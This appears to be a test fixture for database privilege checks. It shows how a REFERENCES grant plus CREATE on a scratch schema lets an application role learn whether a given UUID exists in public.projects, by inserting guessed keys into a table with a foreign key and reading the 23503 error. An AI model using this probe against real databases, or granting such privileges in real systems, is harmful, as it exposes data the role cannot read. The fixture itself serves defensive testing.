-- REFERENCES on a column and a schema to make tables in are an oracle for every key.
-- object: public.projects
-- base: projects
-- refused: 23503
--- setup
CREATE SCHEMA scratch;
GRANT USAGE, CREATE ON SCHEMA scratch TO {app};
--- leak
GRANT REFERENCES (id) ON projects TO {app};
--- exploit
CREATE TABLE scratch.guess (id uuid REFERENCES public.projects (id));
INSERT INTO scratch.guess VALUES ('bbbbbbbb-0000-4000-8000-000000000001');
SELECT 1;
